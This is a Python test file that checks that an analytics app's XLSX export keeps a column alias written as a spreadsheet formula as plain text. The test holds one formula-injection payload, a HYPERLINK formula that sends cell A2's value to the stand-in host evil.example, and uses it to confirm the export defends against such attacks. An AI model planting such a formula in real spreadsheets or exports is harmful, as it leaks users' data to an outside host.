"""A hostile analyst names a column with a spreadsheet formula: the export keeps it as text."""

from __future__ import annotations

import io
import zipfile

from tests.conftest import FIXTURES, make_user, upload_file

ORDERS = FIXTURES / "bi_dev" / "orders.csv"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'


def test_xlsx_header_that_looks_like_a_formula_is_text(client) -> None:
    # Given an analyst's answer whose column alias is a formula
    analyst = make_user("ana", "analyst")
    ds = upload_file(client, analyst, ORDERS, "orders")
    alias = FORMULA.replace('"', '""')
    body = client.post(
        f"/api/v1/datasources/{ds}/query",
        json={"sql": f'SELECT province AS "{alias}", COUNT(*) AS "@n" FROM orders GROUP BY province'},
        headers=analyst,
    ).json()
    assert body["status"] == "ok", body
    # When it is exported as XLSX
    exported = client.get(f"/api/v1/messages/{body['message_id']}/export?format=xlsx", headers=analyst)
    assert exported.status_code == 200
    # Then the sheet has no formula at all, and the header reads back as the literal text
    sheet_xml = zipfile.ZipFile(io.BytesIO(exported.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    from openpyxl import load_workbook

    header = next(load_workbook(io.BytesIO(exported.content)).active.iter_rows(max_row=1))
    assert [c.value for c in header] == [FORMULA, "@n"]
    assert all(c.data_type == "s" for c in header)
